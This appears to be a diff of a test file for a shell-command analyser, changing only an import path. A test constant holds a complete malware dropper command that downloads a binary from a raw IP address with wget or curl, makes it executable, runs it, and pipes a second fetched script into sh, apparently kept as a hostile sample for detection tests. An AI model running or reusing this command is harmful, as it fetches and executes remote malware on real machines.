@@ -1,7 +1,7 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { analyseArguments, analyseCommand } from './analyse-command.js';
-import { BENIGN_COMMANDS, HOSTILE_COMMANDS, NOTED_COMMANDS } from './command-samples.js';
+import { BENIGN_COMMANDS, HOSTILE_COMMANDS, NOTED_COMMANDS } from './testing/command-samples.js';
 
 const CASE =
   '(cd /dev;(busybox wget -O x86 http://51.81.104.115/nuts/x86||curl -s -o x86 http://51.81.104.115/nuts/x86 );chmod 777 x86;./x86 reactOnMynuts;(busybox wget -q http://51.81.104.115/nuts/bolts -O-||wget -q http://51.81.104.115/nuts/bolts -O-||curl -s http://51.81.104.115/nuts/bolts)|sh)&';
